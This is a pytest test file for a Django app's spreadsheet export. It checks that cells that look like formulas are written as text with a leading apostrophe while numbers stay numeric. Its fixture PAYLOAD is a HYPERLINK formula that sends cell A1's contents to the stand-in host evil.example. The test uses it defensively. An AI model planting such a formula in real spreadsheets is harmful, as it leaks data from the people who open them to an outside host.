"""Spreadsheet exports neutralise formula injection (issue #19): text that Excel/WPS would
read as a formula (= + - @, tab, CR) is written with a leading apostrophe; real numbers,
negative ones included, stay numbers."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from unionhub.core.exporting import ExportColumn, safe_cell, write_xlsx
from unionhub.enterprises.models import Enterprise
from unionhub.enterprises.tests.samples import enterprise_in

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("盐城市某某有限公司", "盐城市某某有限公司"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (Decimal("-12.50"), Decimal("-12.50")),
        (3.5, 3.5),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_numbers_stay_numeric_and_text_is_neutralised():
    buffer = io.BytesIO()
    rows = [{"name": PAYLOAD, "balance": Decimal("-12.50"), "count": -3}]
    write_xlsx(
        buffer,
        columns=[
            ExportColumn("名称", lambda r: r["name"]),
            ExportColumn("余额", lambda r: r["balance"]),
            ExportColumn("次数", lambda r: r["count"]),
        ],
        rows=rows,
    )
    buffer.seek(0)
    sheet = load_workbook(buffer).active
    name, balance, count = (sheet.cell(row=2, column=c) for c in (1, 2, 3))  # no title
    assert name.value == "'" + PAYLOAD and name.data_type == "s"
    assert balance.value == -12.5 and balance.data_type == "n"
    assert count.value == -3 and count.data_type == "n"


@pytest.mark.django_db
def test_an_enterprise_named_like_a_formula_is_exported_as_text(client_as):
    ent = enterprise_in("xiangshui")
    Enterprise.objects.filter(pk=ent.pk).update(name=PAYLOAD)
    response = client_as("city_admin").get("/enterprises/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "'" + PAYLOAD in values
    assert PAYLOAD not in values
